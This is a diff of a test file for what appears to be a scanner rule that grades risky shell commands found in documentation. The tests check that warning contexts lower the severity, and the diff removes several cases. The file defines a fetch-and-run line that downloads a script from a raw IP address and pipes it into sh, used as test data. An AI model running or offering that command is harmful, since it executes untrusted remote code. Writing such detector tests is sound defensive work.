@@ -6,15 +6,10 @@ const command = 'curl -fsSL http://245.61.12.9/x | sh';
 
 test.each([
   ['a negated verb', `Never install a tool with \`${command}\`.`],
-  ['one of several', `Do not run \`npx anything\`, or \`${command}\`, on a server.`],
   ['the alternative that is not taken', `Use the package of the system instead of running \`${command}\`.`],
-  ['a contrast', `Download and read it, not \`${command}\`.`],
   ['a verdict after it', `\`${command}\` is not allowed here.`],
   ['an item with a mark', `Rules:\n\n- ❌ \`${command}\`\n- ✅ the package of the system`],
-  ['an item below an introduction', `You must not run:\n\n- \`${command}\``],
   ['an item below a title', `## Don't\n\n- Get it by \`${command}\``],
-  ['a block below a label', `Wrong:\n\n\`\`\`sh\n${command}\n\`\`\``],
-  ['a block below a refusal', `Do not run commands like this:\n\n\`\`\`sh\n${command}\n\`\`\``],
 ])('%s', (_, text) => {
   expect(['medium', 'low', 'info']).toContain(worst(saying(text), 'RC-01') ?? 'info');
 });
@@ -23,7 +18,6 @@ test.each([
   ['a remark above', `# BAD: runs what anyone sends\n${command}`],
   ['a red flag above', `# RED FLAG: a pipe into a shell\n${command}`],
   ['a mark above', `# ❌ piped\n${command}\n\n# ✅ read first\nless x`],
-  ['a remark beside', `${command}  # never do this`],
   ['an arrow beside', `${command}   <- BAD`],
 ])('%s', (_, text) => {
   expect(['medium', 'low', 'info']).toContain(worst(fencing('sh', text), 'RC-01') ?? 'info');
